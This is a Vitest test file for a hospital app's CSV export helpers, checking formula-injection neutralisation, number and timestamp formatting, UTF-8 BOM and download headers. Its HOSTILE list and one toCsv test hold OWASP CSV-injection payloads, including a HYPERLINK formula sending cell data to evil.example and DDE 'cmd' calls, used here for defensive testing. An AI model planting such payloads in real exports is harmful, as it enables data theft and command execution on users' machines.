import { describe, expect, it, vi } from "vitest";
import { BOM, csvCell, csvResponse, toCsv } from "./csv";

// What a spreadsheet would run as a formula, each written as text (OWASP CSV Injection).
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
];

describe("csvCell", () => {
  it.each(HOSTILE)("writes %j as text behind an apostrophe", (cell) => {
    expect(csvCell(cell)).toBe(`'${cell}`);
  });

  it("leaves text that cannot start a formula as it is", () => {
    for (const cell of [
      "Essential hypertension",
      "T 39.1 °C",
      "Zoé Müller-Ørsted",
      "a=b",
      "x-ray",
      "",
      "'quoted already",
      " =not a formula to Excel",
    ]) {
      expect(csvCell(cell)).toBe(cell);
    }
  });

  it("keeps numbers as numbers, negative ones too (a refund of -1500 still sums); text that looks like a number is still text", () => {
    expect(csvCell(-1500)).toBe(-1500);
    expect(csvCell(0)).toBe(0);
    expect(csvCell(12.5)).toBe(12.5);
    expect(csvCell(-5n)).toBe("-5");
    expect(csvCell("-5")).toBe("'-5");
    expect(csvCell("+33 6 12 34 56 78")).toBe("'+33 6 12 34 56 78");
  });

  it("writes nothing for null, and instants to the second in the hospital's time zone", () => {
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(new Date("2026-03-01T09:30:00.250Z"))).toBe("2026-03-01T09:30:00Z"); // HOSPITAL_TIMEZONE=UTC in the tests
  });

  it("writes an instant with the hospital's offset", async () => {
    vi.stubEnv("HOSPITAL_TIMEZONE", "Europe/Paris");
    vi.resetModules();
    try {
      const { csvTimestamp } = await import("./csv");
      expect(csvTimestamp(new Date("2026-03-01T09:30:00Z"))).toBe("2026-03-01T10:30:00+01:00");
      expect(csvTimestamp("2026-07-01T09:30:00.999Z")).toBe("2026-07-01T11:30:00+02:00");
    } finally {
      vi.unstubAllEnvs();
    }
  });
});

describe("toCsv", () => {
  it("starts with a UTF-8 byte order mark, so that Excel reads °C and accents right", () => {
    const csv = toCsv([
      ["vital", "value"],
      ["Température", "38.5 °C"],
    ]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect([...Buffer.from(csv, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.slice(1)).toBe("vital,value\nTempérature,38.5 °C\n");
  });

  it("quotes what needs quoting and neutralises every formula cell, whatever column it is in", () => {
    const csv = toCsv([
      ["code", "description", "count"],
      ["I10", '=HYPERLINK("https://evil.example/?"&A1,"Open")', 3],
      ["@SUM(1+1)", 'Fever, "chills"\nand rigors', -2],
      ["-2+3", "\t=1+1", 0],
    ]);
    expect(csv).toBe(
      BOM +
        "code,description,count\n" +
        'I10,"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",3\n' +
        '\'@SUM(1+1),"Fever, ""chills""\nand rigors",-2\n' +
        "'-2+3,'\t=1+1,0\n",
    );
  });
});

describe("csvResponse", () => {
  it("is a UTF-8 CSV attachment that nothing may store", async () => {
    const res = csvResponse(toCsv([["a"], ["é"]]), "diagnoses");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="diagnoses.csv"');
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect([...new Uint8Array(await res.arrayBuffer()).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
